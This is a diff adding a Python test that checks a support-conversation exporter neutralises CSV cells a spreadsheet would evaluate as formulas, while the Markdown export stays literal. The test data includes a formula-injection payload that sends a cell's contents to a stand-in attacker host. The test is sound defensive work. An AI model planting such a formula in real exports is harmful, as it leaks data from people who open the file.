@@ -65,3 +65,18 @@ def test_export_files_are_named_after_the_start():
     assert [f.name for f in files] == ["support-20250301-093005.csv", "support-20250301-093005.md"]
     assert files[0].mime.startswith("text/csv") and files[1].mime.startswith("text/markdown")
     assert files[1].content.decode("utf-8").startswith("# Support conversation")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    conv = Conversation("en", "zh", started=T0)
+    for text in (formula, "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "a=1 is fine"):
+        conv.add_turn(Turn(T0, "customer", text, "en", text, "zh"))
+    rows = list(csv.reader(io.StringIO(transcript_csv(conv.transcript).decode("utf-8-sig"))))
+    originals = [row[3] for row in rows[1:]]
+    assert originals[:6] == ["'" + t for t in (formula, "+1+2", "-2+3", "@SUM(A1)", "\tTAB",
+                                               "\rCR")]
+    assert originals[6] == "a=1 is fine"  # only a leading sign matters
+    assert all(row[5] == row[3] for row in rows[1:])  # the translation column too
+    md = transcript_markdown(conv)
+    assert "=HYPERLINK" in md and "'=HYPERLINK" not in md  # the Markdown stays literal
